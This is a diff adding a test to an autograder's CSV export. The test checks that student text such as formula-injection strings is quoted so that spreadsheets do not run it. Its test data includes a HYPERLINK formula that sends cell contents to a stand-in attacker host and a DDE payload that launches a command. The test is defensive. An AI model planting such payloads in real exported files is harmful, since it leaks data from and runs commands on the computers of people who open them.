@@ -1,6 +1,7 @@
 """``python -m autograder export``: Canvas's and Moodle's import formats and a plain one, one row per student."""
 
 import csv
+import dataclasses
 import io
 from datetime import datetime
 
@@ -113,3 +114,25 @@ def test_the_command_refuses_an_existing_file_and_a_folder_that_was_not_graded(t
     assert main(["export", str(graded), "--format", "plain", "--out", str(tmp_path / "grades.csv"), "--force",
                  "--gradebook", "none"]) == 0
     assert capsys.readouterr().out == f"wrote 2 students' totals to {tmp_path / 'grades.csv'} (plain)\n"
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
+            "'=quoted"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_a_students_text_never_reaches_a_spreadsheet_as_a_formula_and_reads_back_unchanged(tmp_path, formula):
+    out = tmp_path / "graded"
+    out.mkdir()
+    chosen = student(formula, "all", written=20.0, name=formula, lms_id="1001")
+    failed = dataclasses.replace(chosen.rows[0].verdict, status="error", message=formula)
+    chosen.rows[0] = Row(failed, 0.0, chosen.rows[0].max_score)
+    tables.write(BatchResult([chosen], out, "bubblewrap", "", 0, False, timeout=20.0, import_timeout=10.0), out)
+    export(out, "plain", tmp_path / "plain.csv")
+    export(out, "moodle", tmp_path / "moodle.csv")
+    cells = [cell for name in ("grades.csv", "totals.csv", "seeds.csv") for row in rows_of(out / name)[1:]
+             for cell in row]
+    cells += [cell for name in ("plain.csv", "moodle.csv") for row in rows_of(tmp_path / name)[1:] for cell in row]
+    assert [cell for cell in cells if formula in cell and not cell.startswith("'")] == []
+    plain = rows_of(tmp_path / "plain.csv")[1]
+    assert plain[:2] == ["'" + formula, "'" + formula]  # one quote more, which a spreadsheet does not show
